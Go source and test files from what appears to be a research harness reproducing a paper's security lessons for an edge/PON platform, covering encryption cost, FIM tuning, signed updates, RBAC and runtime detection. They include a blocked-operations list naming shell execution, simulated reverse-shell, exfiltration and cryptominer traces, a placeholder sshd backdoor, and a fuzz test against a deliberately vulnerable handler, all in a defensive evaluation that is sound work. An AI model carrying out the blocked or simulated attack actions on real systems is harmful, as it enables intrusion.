	fmt.Fprintf(&b, "MACsec protect+validate: %d frames x 1KiB in %v (%.0f ns/frame)\n",
		frames, encElapsed.Round(time.Millisecond), float64(encElapsed.Nanoseconds())/frames)
	fmt.Fprintf(&b, "plaintext frame copy:    %d frames x 1KiB in %v (%.0f ns/frame)\n",
		frames, plainElapsed.Round(time.Millisecond), float64(plainElapsed.Nanoseconds())/frames)
	ratio := float64(encElapsed.Nanoseconds()) / float64(plainElapsed.Nanoseconds()+1)
	fmt.Fprintf(&b, "overhead factor: %.1fx (bounded, per paper expectation)\n\n", ratio)

	// Onboarding handshake cost across heterogeneous fleet.
	ca, err := pki.NewCA("genio-root")
	if err != nil {
		return "", err
	}
	oltID, err := ca.Issue("olt-01", pki.RoleOLT)
	if err != nil {
		return "", err
	}
	olt, err := pon.NewOLT("olt-01", pon.ModeAuthenticated, ca, oltID)
	if err != nil {
		return "", err
	}
	const onus = 64
	start = time.Now()
	for i := 0; i < onus; i++ {
		id, err := ca.Issue(fmt.Sprintf("onu-%03d", i), pki.RoleONU)
		if err != nil {
			return "", err
		}
		if err := olt.Activate(pon.NewONU(fmt.Sprintf("onu-%03d", i), id)); err != nil {
			return "", err
		}
	}
	authElapsed := time.Since(start)

	plainOLT, err := pon.NewOLT("olt-02", pon.ModePlaintext, nil, nil)
	if err != nil {
		return "", err
	}
	start = time.Now()
	for i := 0; i < onus; i++ {
		if err := plainOLT.Activate(pon.NewONU(fmt.Sprintf("onu-%03d", i), nil)); err != nil {
			return "", err
		}
	}
	plainActivate := time.Since(start)
	fmt.Fprintf(&b, "ONU activation x%d: authenticated=%v (cert issue + ECDHE handshake each)\n",
		onus, authElapsed.Round(time.Millisecond))
	fmt.Fprintf(&b, "                    plaintext=%v (no identity management)\n",
		plainActivate.Round(time.Microsecond))
	fmt.Fprintf(&b, "certificates issued and tracked for the fleet: %d\n", ca.Issued())

	// Key rotation across all active ports.
	start = time.Now()
	if err := olt.RotateKeys(); err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "fleet-wide key rotation (%d ports): %v\n", onus, time.Since(start).Round(time.Microsecond))
	return b.String(), nil
}

// Lesson3 quantifies integrity-protection friction: Clevis unavailability
// forces manual passphrases, and untuned FIM floods operators.
func Lesson3() (string, error) {
	var b strings.Builder
	b.WriteString("Lesson 3: integrity protections meet deployment obstacles on ONL\n")
	b.WriteString("(paper: missing TPM libs force manual passphrase entry; FIM must\n")
	b.WriteString(" separate immutable from mutable resources to avoid misleading alerts)\n\n")

	// Fleet reboot simulation: 10 OLTs, 5 reboots each.
	const nodes, reboots = 10, 5
	for _, env := range []struct {
		name    string
		hasLibs bool
	}{
		{"mainstream distro (tpm2-tss available)", true},
		{"onl-debian10 (Clevis libs unavailable)", false},
	} {
		manualEntries := 0
		for n := 0; n < nodes; n++ {
			t, err := tpm.New()
			if err != nil {
				return "", err
			}
			if _, err := t.Extend(tpm.PCRKernel, "kernel", []byte("good")); err != nil {
				return "", err
			}
			vol, err := storage.CreateVolume(fmt.Sprintf("olt-%02d", n), "site-passphrase")
			if err != nil {
				return "", err
			}
			cfg := storage.ClevisConfig{TPM: t, PCRSelection: []int{tpm.PCRKernel}, HasTPMLibs: env.hasLibs}
			bound := vol.BindTPMSlot("clevis", cfg) == nil
			for r := 0; r < reboots; r++ {
				vol.Lock()
				if bound {
					if err := vol.UnlockTPM("clevis", t); err != nil {
						return "", err
					}
				} else {
					if err := vol.UnlockPassphrase("passphrase", "site-passphrase"); err != nil {
						return "", err
					}
				}
			}
			_, manual := vol.UnlockStats()
			manualEntries += manual
		}
		fmt.Fprintf(&b, "%-42s manual passphrase entries across %d node-reboots: %d\n",
			env.name, nodes*reboots, manualEntries)
	}

	// FIM tuning: benign churn + one real tamper.
	b.WriteString("\nFIM alert precision under benign churn (20 log/state writes + 1 binary tamper):\n")
	for _, variant := range []struct {
		name    string
		mutable []string
	}{
		{"untuned (no mutable-path policy)", nil},
		{"tuned (/var/log, /var/lib/genio mutable)", []string{"/var/log/", "/var/lib/genio/"}},
	} {
		h := host.NewONLOLT("olt-fim")
		t, err := tpm.New()
		if err != nil {
			return "", err
		}
		m, err := fim.NewMonitor(h, t, fim.Config{MutablePrefixes: variant.mutable})
		if err != nil {
			return "", err
		}
		if err := m.Init(); err != nil {
			return "", err
		}
		for i := 0; i < 10; i++ {
			h.WriteFile(host.File{Path: "/var/log/syslog", Mode: 0o640, Owner: "root",
				Content: []byte(fmt.Sprintf("log line %d\n", i))})
			h.WriteFile(host.File{Path: "/var/lib/genio/state.json", Mode: 0o640, Owner: "root",
				Content: []byte(fmt.Sprintf(`{"epoch":%d}`, i))})
		}
		h.WriteFile(host.File{Path: "/usr/sbin/sshd", Mode: 0o755, Owner: "root",
			Content: []byte("backdoored")})
		alerts, err := m.Scan()
		if err != nil {
			return "", err
		}
		raised := fim.Raised(alerts)
		truePositives := 0
		for _, a := range raised {
			if a.Path == "/usr/sbin/sshd" {
				truePositives++
			}
		}
		fmt.Fprintf(&b, "  %-42s raised=%d (true=%d, noise=%d)\n",
			variant.name, len(raised), truePositives, len(raised)-truePositives)
	}
	return b.String(), nil
}

// Lesson4 shows scanning maturity (after path tuning) and the reliability
// of signed updates.
func Lesson4() (string, error) {
	var b strings.Builder
	b.WriteString("Lesson 4: automated scanning integrates smoothly once tuned for\n")
	b.WriteString("non-standard ONL paths; APT GPG signing is reliable and simple\n\n")

	h := host.NewONLOLT("olt-scan")
	db := vuln.DefaultDatabase()
	s := vuln.NewScanner(db)
	before := s.Scan(h)
	s.AddSearchPath("/opt/")
	s.AddSearchPath("/lib/onl")
	after := s.Scan(h)
	fmt.Fprintf(&b, "vuln scan, stock paths:  findings=%d scanned=%d skipped=%d\n",
		len(before.Findings), before.Scanned, before.Skipped)
	fmt.Fprintf(&b, "vuln scan, tuned paths:  findings=%d scanned=%d skipped=%d\n",
		len(after.Findings), after.Scanned, after.Skipped)
	fmt.Fprintf(&b, "blind spot closed by tuning: %d additional findings (ONOS/VOLTHA under /opt)\n\n",
		len(after.Findings)-len(before.Findings))

	// Signed update accept/reject matrix.
	repo, err := updates.NewRepository("genio-main")
	if err != nil {
		return "", err
	}
	node := host.New("node", "onl-debian10")
	client := updates.NewClient(repo.PublicKey(), node)
	good := repo.Publish("genio-agent", "1.2.0", []byte("agent"))
	md := repo.Metadata()

	evil, err := updates.NewRepository("evil-mirror")
	if err != nil {
		return "", err
	}
	evilPkg := evil.Publish("genio-agent", "1.2.1", []byte("trojan"))

	tampered := good
	tampered.Data = []byte("trojaned")

	cases := [][2]string{}
	try := func(name string, m updates.RepoMetadata, a updates.PackageArtifact) {
		if err := client.Install(m, a); err != nil {
			cases = append(cases, [2]string{name, "REJECTED (" + firstLine(err.Error()) + ")"})
		} else {
			cases = append(cases, [2]string{name, "accepted"})
		}
	}
	try("valid signed package", md, good)
	try("tampered payload", md, tampered)
	try("package from untrusted repo", evil.Metadata(), evilPkg)
	try("package missing from metadata", md, updates.PackageArtifact{Name: "ghost", Version: "1", Data: []byte("x")})
	b.WriteString("APT-style update verification matrix:\n")
	b.WriteString(table(cases))

	// ONIE image path.
	t, err := tpm.New()
	if err != nil {
		return "", err
	}
	signer, err := updates.NewImageSigner("genio-build")
	if err != nil {
		return "", err
	}
	updates.ProvisionTrustAnchor(t, signer.PublicKey())
	onie := &updates.ONIE{TPM: t, MinimalEnvVerified: true, CurrentVersion: "onl-4.19.81"}
	img := updates.OSImage{Version: "onl-4.19.300", Data: []byte("new-image")}
	sig := signer.Sign(img)
	onieCases := [][2]string{}
	if err := onie.Apply(img, sig); err == nil {
		onieCases = append(onieCases, [2]string{"signed ONIE image, minimal env", "applied"})
	}
	bad := img
	bad.Data = []byte("evil")
	if err := onie.Apply(bad, sig); err != nil {
		onieCases = append(onieCases, [2]string{"tampered ONIE image", "REJECTED"})
	}
	onie2 := &updates.ONIE{TPM: t, MinimalEnvVerified: false}
	if err := onie2.Apply(img, sig); err != nil {
		onieCases = append(onieCases, [2]string{"apply from full (untrusted) OS", "REJECTED (NIST SP 800-193)"})
	}
	b.WriteString("\nONIE image update matrix (TPM-backed trust anchor):\n")
	b.WriteString(table(onieCases))
	return b.String(), nil
}

// Lesson5 contrasts SDN allowlisting (easy) with orchestrator RBAC
// tightening (iterative), and shows checker-tool coverage is partial.
func Lesson5() (string, error) {
	var b strings.Builder
	b.WriteString("Lesson 5: network-management hardening is straightforward;\n")
	b.WriteString("orchestrator RBAC needs iterative least-privilege work, and no\n")
	b.WriteString("single checker tool covers all risks\n\n")

	// SDN allowlist: production op mix + attack ops, zero disruption.
	allow := rbac.DefaultSDNAllowlist()
	production := []string{"device.register", "device.list", "network.configure", "network.status", "diag.log"}
	disrupted := 0
	for i := 0; i < 200; i++ {
		if !allow.Allow(production[i%len(production)]) {
			disrupted++
		}
	}
	dangerous := []string{"shell.exec", "debug.attach", "log.raw", "firmware.write"}
	blockedDangerous := 0
	for _, op := range dangerous {
		if !allow.Allow(op) {
			blockedDangerous++
		}
	}
	allowed, blocked := allow.Counts()
	fmt.Fprintf(&b, "SDN allowlist: %d production ops allowed, %d disrupted; %d/%d dangerous ops blocked (total blocked=%d)\n",
		allowed, disrupted, blockedDangerous, len(dangerous), blocked)

	// Orchestrator RBAC: wildcard -> usage-driven tightening.
	e := rbac.NewEngine()
	e.SetRole(rbac.Role{Name: "workload", Permissions: []rbac.Permission{{Verb: "*", Resource: "*"}}})
	if err := e.Bind("tenant-svc", "workload"); err != nil {
		return "", err
	}
	observed := []rbac.Permission{
		{Verb: "get", Resource: "configmaps"},
		{Verb: "watch", Resource: "pods"},
		{Verb: "create", Resource: "leases"},
	}
	for _, p := range observed {
		e.Check("tenant-svc", p)
	}
	flagged := len(e.AuditLeastPrivilege())
	e.SetRole(rbac.Role{Name: "workload", Permissions: observed})
	for _, p := range observed {
		if !e.Check("tenant-svc", p).Allowed {
			return "", fmt.Errorf("tightened role broke workload traffic")
		}
	}
	escalation := e.Check("tenant-svc", rbac.Permission{Verb: "delete", Resource: "nodes"})
	fmt.Fprintf(&b, "K8s RBAC: wildcard role flagged by audit (%d finding), tightened to %d concrete\n",
		flagged, len(observed))
	fmt.Fprintf(&b, "          permissions with zero workload breakage; node-delete escalation now denied=%v\n\n",
		!escalation.Allowed)

	// Checker coverage union.
	reg := container.NewRegistry()
	cluster := orchestrator.NewCluster("edge-audit", reg, orchestrator.InsecureDefaults())
	nsa := scap.NSAKubernetesProfile()
	cis := scap.CISKubernetesProfile()
	union := scap.CombinedClusterCoverage(cluster, nsa, cis)
	fmt.Fprintf(&b, "checker coverage: NSA=%d rules, CIS=%d rules, union=%d distinct checks\n",
		len(nsa.Rules), len(cis.Rules), len(union))
	fmt.Fprintf(&b, "-> each tool alone covers %d%% / %d%% of the union (multiple tools required)\n",
		100*len(nsa.Rules)/len(union), 100*len(cis.Rules)/len(union))
	return b.String(), nil
}

// Lesson6 simulates CVE tracking across feed maturities and measures the
// attack window per middleware component.
func Lesson6() (string, error) {
	var b strings.Builder
	b.WriteString("Lesson 6: middleware vulnerability management is reactive and\n")
	b.WriteString("resource-intensive; fragmented feeds stretch the attack window\n\n")

	tr := vuln.NewTracker(vuln.DefaultFeeds(), 5)
	exposures := tr.TrackAll(vuln.DefaultDatabase())
	b.WriteString("per-CVE exposure (disclosure -> patched), patch cycle = 5 days:\n")
	fmt.Fprintf(&b, "  %-14s %-16s %-24s %-7s %s\n", "CVE", "component", "best feed", "window", "manual steps")
	totalManual := 0
	for _, e := range exposures {
		if e.NeverVisible {
			fmt.Fprintf(&b, "  %-14s %-16s %-24s %-7s %s\n",
				e.CVE.ID, e.Component, "(never visible)", "inf", "-")
			continue
		}
		fmt.Fprintf(&b, "  %-14s %-16s %-24s %-7d %d\n",
			e.CVE.ID, e.Component, e.BestFeed, e.WindowDays, e.ManualSteps)
		totalManual += e.ManualSteps
	}
	fmt.Fprintf(&b, "\ntotal manual review steps across the stack: %d\n", totalManual)

	// Aggregate by feed kind.
	byFeed := map[string][]int{}
	for _, e := range exposures {
		if !e.NeverVisible {
			byFeed[e.BestFeed] = append(byFeed[e.BestFeed], e.WindowDays)
		}
	}
	b.WriteString("\nmean window by winning feed:\n")
	for _, feed := range sortedKeys(byFeed) {
		sum := 0
		for _, w := range byFeed[feed] {
			sum += w
		}
		fmt.Fprintf(&b, "  %-24s %.1f days (n=%d)\n", feed, float64(sum)/float64(len(byFeed[feed])), len(byFeed[feed]))
	}

	// Without the NVD fallback, stale/UI-only channels leave components
	// dark — the fragmentation cost in its purest form.
	var noNVD []vuln.Feed
	for _, f := range vuln.DefaultFeeds() {
		if f.Kind != vuln.FeedNVD {
			noNVD = append(noNVD, f)
		}
	}
	dark := 0
	for _, e := range vuln.NewTracker(noNVD, 5).TrackAll(vuln.DefaultDatabase()) {
		if e.NeverVisible {
			dark++
		}
	}
	fmt.Fprintf(&b, "\nwithout the NVD fallback, %d CVEs are never visible through any\n", dark)
	b.WriteString("project channel (stale ONOS feed, OS packages with no project feed)\n")

	// KBOM precision.
	kbom := vuln.DefaultKBOM()
	findings := kbom.Match(vuln.DefaultDatabase())
	fmt.Fprintf(&b, "\nKBOM match on deployed cluster: %d findings with exact versions (no name-only noise)\n", len(findings))
	return b.String(), nil
}

// Lesson7 measures SCA noise, SAST false positives, and the fuzzability
// boundary.
func Lesson7() (string, error) {
	var b strings.Builder
	b.WriteString("Lesson 7: SCA flags unreachable dependencies (bloated reports);\n")
	b.WriteString("SAST needs triage; fuzzing only works for standard interfaces\n\n")

	images := []*container.Image{
		container.IoTGatewayImage(), container.MLInferenceImage(), container.AnalyticsImage(),
	}
	scanner := sca.NewScanner(sca.DependencyDatabase())
	b.WriteString("SCA findings (full report vs reachability-filtered):\n")
	for _, img := range images {
		full := scanner.Scan(img)
		filtered := full.ReachableOnly()
		noise := len(full.Findings) - len(filtered.Findings)
		fmt.Fprintf(&b, "  %-24s full=%d reachable=%d noise-filtered=%d\n",
			img.Ref(), len(full.Findings), len(filtered.Findings), noise)
	}

	sastScanner := sast.NewScanner(sast.DefaultRules())
	b.WriteString("\nSAST findings (all vs actionable after FP triage):\n")
	for _, img := range images {
		rep := sastScanner.Scan(img)
		fmt.Fprintf(&b, "  %-24s findings=%d actionable=%d files=%d\n",
			img.Ref(), len(rep.Findings), len(rep.Actionable()), rep.FilesScanned)
	}

	// Fuzzability boundary.
	fuzzable := 0
	for _, img := range images {
		if img.Config.HasRESTAPI {
			fuzzable++
		}
	}
	fmt.Fprintf(&b, "\nfuzzable images (expose REST/OpenAPI): %d of %d\n", fuzzable, len(images))

	// Live fuzzing: vulnerable vs fixed builds.
	vulnSrv := httptest.NewServer(dast.VulnerableHandler())
	defer vulnSrv.Close()
	fixedSrv := httptest.NewServer(dast.FixedHandler("token"))
	defer fixedSrv.Close()

	fz := dast.NewFuzzer()
	vulnRep, err := fz.Fuzz(vulnSrv.URL, dast.VulnerableSpec())
	if err != nil {
		return "", err
	}
	fzAuth := dast.NewFuzzer()
	fzAuth.AuthToken = "token"
	fixedRep, err := fzAuth.Fuzz(fixedSrv.URL, dast.VulnerableSpec())
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "\nREST fuzzing (CATS role, live HTTP servers):\n")
	fmt.Fprintf(&b, "  vulnerable build: %d requests -> %d findings\n", vulnRep.RequestsSent, len(vulnRep.Findings))
	for _, f := range vulnRep.Findings {
		fmt.Fprintf(&b, "    [%s] %s payload=%.30q status=%d\n", f.Kind, f.Endpoint, f.Payload, f.Status)
	}
	fmt.Fprintf(&b, "  fixed build:      %d requests -> %d findings\n", fixedRep.RequestsSent, len(fixedRep.Findings))
	return b.String(), nil
}

// Lesson8 measures detection/enforcement effectiveness and the tuning
// trade-off: FP rate before/after tuning with true positives retained.
func Lesson8() (string, error) {
	var b strings.Builder
	b.WriteString("Lesson 8: detection/isolation tools are mature and effective, but\n")
	b.WriteString("policies need tuning to cut false positives without losing coverage\n\n")

	benign := [][]trace.Event{
		trace.BenignWebTrace("web-1", "acme", 20),
		trace.BenignBatchTrace("batch-1", "acme", 20),
		// A web app that legitimately calls an external SaaS and writes
		// logs — the FP source out of the box.
		trace.NewBuilder("web-2", "acme").
			Add(trace.EventExec, "runc", "/app/server").
			Add(trace.EventConnect, "server", "api.stripe.example:443").
			Add(trace.EventConnect, "server", "api.stripe.example:443").
			Add(trace.EventFileWrite, "server", "/var/log/app/access.log").
			Events(),
	}
	attacks := map[string][]trace.Event{
		"container-escape": trace.ContainerEscapeTrace("esc", "shady"),
		"reverse-shell":    trace.ReverseShellTrace("rsh", "acme"),
		"cryptominer":      trace.CryptominerTrace("miner", "shady"),
		"data-exfil":       trace.DataExfiltrationTrace("exf", "acme"),
	}

	evaluate := func(e *falco.Engine) (fps int, detected int) {
		for _, tr := range benign {
			fps += len(e.ConsumeAll(tr))
		}
		for _, name := range sortedKeys(attacks) {
			if len(e.ConsumeAll(attacks[name])) > 0 {
				detected++
			}
		}
		return fps, detected
	}

	untuned := falco.NewEngine(falco.DefaultRules())
	fpU, detU := evaluate(untuned)
	tuned := falco.NewEngine(falco.DefaultRules())
	if err := tuned.SetExceptions("unexpected-egress", []string{"api.stripe.example"}); err != nil {
		return "", err
	}
	if err := tuned.SetExceptions("write-outside-app", []string{"/var/log/"}); err != nil {
		return "", err
	}
	fpT, detT := evaluate(tuned)
	fmt.Fprintf(&b, "Falco (detection, M18): untuned FPs=%d detected=%d/%d | tuned FPs=%d detected=%d/%d\n",
		fpU, detU, len(attacks), fpT, detT, len(attacks))

	// Sandbox enforcement outcomes.
	enf := sandbox.NewEnforcer()
	blockedAttacks := 0
	for _, name := range sortedKeys(attacks) {
		events := attacks[name]
		enf.SetPolicy(events[0].Workload, sandbox.DefaultWorkloadPolicy())
		if len(sandbox.Blocked(enf.Process(events))) > 0 {
			blockedAttacks++
		}
	}
	benignBlocked := 0
	for _, tr := range benign {
		enf.SetPolicy(tr[0].Workload, sandbox.DefaultWorkloadPolicy())
		benignBlocked += len(sandbox.Blocked(enf.Process(tr)))
	}
	fmt.Fprintf(&b, "KubeArmor (enforcement, M17): attacks blocked=%d/%d, benign events blocked=%d\n",
		blockedAttacks, len(attacks), benignBlocked)
	b.WriteString("-> enforcement stops the escape-class attacks outright; the stealthier\n")
	b.WriteString("   miner/exfil behaviours are covered by detection, matching the paper's\n")
	b.WriteString("   complementary roles for sandboxing (block) and monitoring (observe)\n")

	// Overhead: events/second through detection and enforcement.
	const n = 100000
	load := trace.BenignWebTrace("perf", "acme", n/2)
	e := falco.NewEngine(falco.DefaultRules())
	start := time.Now()
	e.ConsumeAll(load)
	falcoRate := float64(len(load)) / time.Since(start).Seconds()
	enf2 := sandbox.NewEnforcer()
	enf2.SetPolicy("perf", sandbox.DefaultWorkloadPolicy())
	start = time.Now()
	enf2.Process(load)
	sandboxRate := float64(len(load)) / time.Since(start).Seconds()
	fmt.Fprintf(&b, "overhead: falco %.0f events/s, sandbox %.0f events/s (acceptable bounds)\n",
		falcoRate, sandboxRate)
	return b.String(), nil
}

func firstLine(s string) string {
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}
