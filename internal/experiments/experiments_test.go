package experiments

import (
	"fmt"
	"strings"
	"testing"
)

func TestRegistryComplete(t *testing.T) {
	ids := map[string]bool{}
	for _, e := range All() {
		if ids[e.ID] {
			t.Fatalf("duplicate experiment id %s", e.ID)
		}
		ids[e.ID] = true
		if e.Title == "" || e.Run == nil {
			t.Fatalf("experiment %s incomplete", e.ID)
		}
	}
	for _, want := range []string{"fig1", "fig2", "fig3",
		"lesson1", "lesson2", "lesson3", "lesson4",
		"lesson5", "lesson6", "lesson7", "lesson8", "e2e", "ablation", "risk", "compliance"} {
		if !ids[want] {
			t.Errorf("missing experiment %s", want)
		}
	}
}

func TestByID(t *testing.T) {
	if _, ok := ByID("fig3"); !ok {
		t.Fatal("ByID(fig3) not found")
	}
	if _, ok := ByID("ghost"); ok {
		t.Fatal("ByID(ghost) found")
	}
}

// TestAllExperimentsRun executes every experiment and sanity-checks that
// each produces the key phenomenon its Lesson reports.
func TestAllExperimentsRun(t *testing.T) {
	checks := map[string][]string{
		"fig1":       {"CLOUD", "EDGE", "FAR-EDGE", "olt-01", "onu-0001"},
		"fig2":       {"INFRASTRUCTURE", "MIDDLEWARE", "APPLICATION", "MACsec", "Falco"},
		"fig3":       {"T1", "T8", "M18", "All modelled threats"},
		"lesson1":    {"manual", "iteration", "onl-debian10", "ubuntu22.04"},
		"lesson2":    {"MACsec", "overhead factor", "certificates issued"},
		"lesson3":    {"manual passphrase entries", "untuned", "tuned"},
		"lesson4":    {"blind spot closed", "REJECTED", "accepted", "ONIE"},
		"lesson5":    {"SDN allowlist", "0 disrupted", "union"},
		"lesson6":    {"never visible", "kubernetes-official-cve", "nvd-api", "manual review"},
		"lesson7":    {"noise-filtered", "actionable", "fuzzable images (expose REST/OpenAPI): 2 of 3", "findings"},
		"lesson8":    {"untuned FPs", "tuned FPs", "detected=4/4", "events/s"},
		"e2e":        {"legacy", "secure-by-design", "missed=0", "blocked="},
		"ablation":   {"baseline secure posture", "reopened", "defense in depth"},
		"risk":       {"inherent", "residual", "reduction", "partial rollout"},
		"compliance": {"10/10 satisfied", "MISSING", "legacy", "secure-by-design"},
	}
	for _, e := range All() {
		out, err := e.Run()
		if err != nil {
			t.Fatalf("%s: %v", e.ID, err)
		}
		if len(out) == 0 {
			t.Fatalf("%s produced no output", e.ID)
		}
		for _, needle := range checks[e.ID] {
			if !strings.Contains(out, needle) {
				t.Errorf("%s output missing %q\n--- output ---\n%s", e.ID, needle, out)
			}
		}
	}
}

func TestE2EShape(t *testing.T) {
	out, err := EndToEnd()
	if err != nil {
		t.Fatal(err)
	}
	// Legacy must miss strictly more than secure; parse the summary lines.
	var missedPerPosture []int
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "blocked=") {
			var blocked, detected, missed, total int
			if _, err := fmt.Sscanf(line, "blocked=%d detected=%d missed=%d (of %d attacks)",
				&blocked, &detected, &missed, &total); err != nil {
				t.Fatalf("parse %q: %v", line, err)
			}
			missedPerPosture = append(missedPerPosture, missed)
		}
	}
	if len(missedPerPosture) != 3 {
		t.Fatalf("postures = %d, want 3", len(missedPerPosture))
	}
	if missedPerPosture[0] == 0 {
		t.Fatal("legacy posture missed nothing")
	}
	if last := missedPerPosture[len(missedPerPosture)-1]; last != 0 {
		t.Fatalf("secure posture missed %d", last)
	}
}
