package experiments

import (
	"fmt"
	"strings"

	"genio/internal/attack"
	"genio/internal/core"
	"genio/internal/pon"
)

// Ablation measures each mitigation's individual contribution: starting
// from the full secure posture, one mitigation is disabled at a time and
// the T1–T8 campaign re-run. The attacks that flip from blocked/detected
// to missed are exactly the risks the paper's threat model attributes to
// that mitigation — a direct check of the Figure-3 mapping.
func Ablation() (string, error) {
	var b strings.Builder
	b.WriteString("Ablation: disable one mitigation at a time from the secure posture\n")
	b.WriteString("and observe which attacks reopen (validates the Figure-3 mapping)\n\n")

	baseline, err := campaignOutcomes(core.SecureConfig())
	if err != nil {
		return "", err
	}
	bs := attack.Summary(flatten(baseline))
	fmt.Fprintf(&b, "baseline secure posture: blocked=%d detected=%d missed=%d\n\n",
		bs[attack.OutcomeBlocked], bs[attack.OutcomeDetected], bs[attack.OutcomeMissed])

	ablations := []struct {
		name    string
		related string // mitigation IDs per the threat model
		mutate  func(*core.Config)
	}{
		{"PON encryption+auth off", "M3,M4", func(c *core.Config) { c.PONMode = pon.ModePlaintext }},
		{"OS hardening off", "M1,M2", func(c *core.Config) { c.HardenOS = false }},
		{"FIM off", "M7", func(c *core.Config) { c.FIMEnabled = false }},
		{"vuln management off", "M8,M12", func(c *core.Config) { c.VulnManagement = false }},
		{"RBAC off", "M10", func(c *core.Config) {
			c.RBACEnabled = false
			c.ClusterSettings.RBACEnabled = false
		}},
		{"image signatures off", "supply chain", func(c *core.Config) { c.VerifyImageSignatures = false }},
		{"admission scanning off", "M13,M16", func(c *core.Config) { c.AdmissionScanning = false }},
		{"sandbox off", "M17", func(c *core.Config) { c.SandboxEnabled = false }},
		{"runtime monitoring off", "M18", func(c *core.Config) { c.RuntimeMonitoring = false }},
		{"tenant quotas off", "T8 counter", func(c *core.Config) { c.TenantQuotas = false }},
	}

	for _, abl := range ablations {
		cfg := core.SecureConfig()
		abl.mutate(&cfg)
		outcomes, err := campaignOutcomes(cfg)
		if err != nil {
			return "", err
		}
		var regressions []string
		for key, r := range outcomes {
			base := baseline[key]
			if r.Outcome == attack.OutcomeMissed && base.Outcome != attack.OutcomeMissed {
				regressions = append(regressions, fmt.Sprintf("%s %s", r.ThreatID, r.Attack))
			}
		}
		s := attack.Summary(flatten(outcomes))
		fmt.Fprintf(&b, "- %-26s (%s): missed=%d", abl.name, abl.related, s[attack.OutcomeMissed])
		if len(regressions) == 0 {
			b.WriteString("  [no attack reopened: another layer covers it — defense in depth]\n")
		} else {
			fmt.Fprintf(&b, "  reopened: %s\n", strings.Join(regressions, "; "))
		}
	}
	b.WriteString("\nReading: a mitigation whose removal reopens an attack is the *sole*\n")
	b.WriteString("cover for that risk; mitigations with no regressions overlap with other\n")
	b.WriteString("layers (e.g. admission scanning backs up signature verification).\n")
	return b.String(), nil
}

// campaignOutcomes runs the campaign once, keyed by threat+attack name.
func campaignOutcomes(cfg core.Config) (map[string]attack.Result, error) {
	p, err := core.New(cfg)
	if err != nil {
		return nil, err
	}
	c, err := attack.NewCampaign(p)
	if err != nil {
		return nil, err
	}
	out := make(map[string]attack.Result)
	for _, r := range c.Run() {
		out[r.ThreatID+"/"+r.Attack] = r
	}
	return out, nil
}

func flatten(m map[string]attack.Result) []attack.Result {
	out := make([]attack.Result, 0, len(m))
	for _, r := range m {
		out = append(out, r)
	}
	return out
}
