// Package experiments implements the reproduction harness: one experiment
// per paper artifact (Figures 1–3) and one per Lesson (1–8), plus the
// end-to-end attack campaign. Each experiment returns a printable report;
// cmd/genio-bench runs them individually or all together, and
// EXPERIMENTS.md records their output against the paper's claims.
package experiments

import (
	"fmt"
	"sort"
	"strings"

	"genio/internal/attack"
	"genio/internal/compliance"
	"genio/internal/container"
	"genio/internal/core"
	"genio/internal/orchestrator"
	"genio/internal/pon"
	"genio/internal/threatmodel"
)

// Experiment is one runnable reproduction target.
type Experiment struct {
	ID    string
	Title string
	Run   func() (string, error)
}

// All returns the full experiment registry in run order.
func All() []Experiment {
	return []Experiment{
		{ID: "fig1", Title: "Figure 1: deployment across cloud/edge/far-edge", Run: Figure1},
		{ID: "fig2", Title: "Figure 2: GENIO software architecture", Run: Figure2},
		{ID: "fig3", Title: "Figure 3: threats x mitigations matrix", Run: Figure3},
		{ID: "lesson1", Title: "Lesson 1: hardening ONL vs mainstream distros", Run: Lesson1},
		{ID: "lesson2", Title: "Lesson 2: encryption and authentication costs", Run: Lesson2},
		{ID: "lesson3", Title: "Lesson 3: integrity protections in the field", Run: Lesson3},
		{ID: "lesson4", Title: "Lesson 4: scanning maturity and signed updates", Run: Lesson4},
		{ID: "lesson5", Title: "Lesson 5: hardening SDN vs orchestrators", Run: Lesson5},
		{ID: "lesson6", Title: "Lesson 6: fragmented vulnerability feeds", Run: Lesson6},
		{ID: "lesson7", Title: "Lesson 7: SCA/SAST noise and fuzzing limits", Run: Lesson7},
		{ID: "lesson8", Title: "Lesson 8: detection maturity and tuning", Run: Lesson8},
		{ID: "e2e", Title: "End-to-end: T1-T8 campaign, legacy vs secure", Run: EndToEnd},
		{ID: "ablation", Title: "Ablation: per-mitigation contribution to coverage", Run: Ablation},
		{ID: "risk", Title: "Risk assessment: inherent vs residual per threat", Run: Risk},
		{ID: "compliance", Title: "CRA essential-requirement audit per posture", Run: Compliance},
	}
}

// Compliance audits each platform posture against the CRA-style essential
// requirements that drove the GENIO design.
func Compliance() (string, error) {
	var b strings.Builder
	b.WriteString("Cyber Resilience Act alignment (the paper's stated design driver)\n\n")
	for _, posture := range []struct {
		name string
		cfg  core.Config
	}{
		{"legacy", core.LegacyConfig()},
		{"infrastructure mitigations only", infraOnlyConfig()},
		{"secure-by-design", core.SecureConfig()},
	} {
		rep := compliance.Audit(posture.cfg)
		fmt.Fprintf(&b, "--- %s ---\n%s\n", posture.name, rep.Render())
	}
	return b.String(), nil
}

func infraOnlyConfig() core.Config {
	cfg := core.LegacyConfig()
	cfg.PONMode = pon.ModeAuthenticated
	cfg.HardenOS = true
	cfg.SecureBoot = true
	cfg.SealedStorage = true
	cfg.FIMEnabled = true
	cfg.VulnManagement = true
	return cfg
}

// Risk renders the quantitative risk assessment: inherent likelihood x
// impact per threat, residual risk with the full M1-M18 deployment, and
// the posture with only the infrastructure layer deployed (a partial
// rollout scenario).
func Risk() (string, error) {
	rm := threatmodel.GENIORiskModel()
	var b strings.Builder
	b.WriteString("Risk assessment over the GENIO threat model (1-5 likelihood x impact)\n\n")

	full, err := rm.Assess(nil)
	if err != nil {
		return "", err
	}
	b.WriteString("full M1-M18 deployment:\n")
	b.WriteString(threatmodel.RenderAssessment(full))

	infraOnly := map[string]bool{}
	for _, mid := range []string{"M1", "M2", "M3", "M4", "M5", "M6", "M7", "M8", "M9"} {
		infraOnly[mid] = true
	}
	partial, err := rm.Assess(infraOnly)
	if err != nil {
		return "", err
	}
	b.WriteString("\ninfrastructure mitigations only (partial rollout):\n")
	b.WriteString(threatmodel.RenderAssessment(partial))
	b.WriteString("\nReading: the application-layer threats (T7, T8) dominate residual risk\n")
	b.WriteString("until the application-level mitigations ship — the deployment-order\n")
	b.WriteString("guidance implicit in the paper's layering.\n")
	return b.String(), nil
}

// ByID returns an experiment from the registry.
func ByID(id string) (Experiment, bool) {
	for _, e := range All() {
		if e.ID == id {
			return e, true
